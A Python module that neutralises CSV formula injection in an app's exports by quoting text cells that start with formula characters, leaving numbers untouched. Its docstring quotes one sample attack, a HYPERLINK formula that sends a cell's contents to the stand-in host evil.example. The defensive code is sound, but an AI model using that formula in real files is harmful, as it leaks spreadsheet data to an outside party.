"""CSV files a spreadsheet can open without running anything: text cells that would start a formula are
neutralised.

A sentence comes from a user or from a shared link (``?text=...``); written raw into a CSV, a cell such as
``=HYPERLINK("http://evil.example/?leak="&A3, "details")`` or ``@SUM(A1)`` runs as a formula when the file is
opened in Excel or LibreOffice. OWASP's advice (CSV injection): a text cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return gets a single quote in front, so the spreadsheet shows it as text. Numbers
are left alone, also when they are held as text ("-0.512", a regression prediction): they start no formula.
"""

from __future__ import annotations

import re

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?")


def safe_cell(value):
    """``value`` with a single quote in front when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and column name passed through ``safe_cell``; numeric
    columns are not touched (a negative number stays a number)."""
    safe = frame.copy()
    for column in safe.columns:
        if not (pd.api.types.is_numeric_dtype(safe[column]) or pd.api.types.is_bool_dtype(safe[column])):
            safe[column] = safe[column].map(safe_cell)
    safe.columns = [safe_cell(c) for c in safe.columns]
    return safe


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (no index), safe to open in a spreadsheet: every CSV the app offers is written
    by this."""
    return safe_frame(frame).to_csv(index=False)
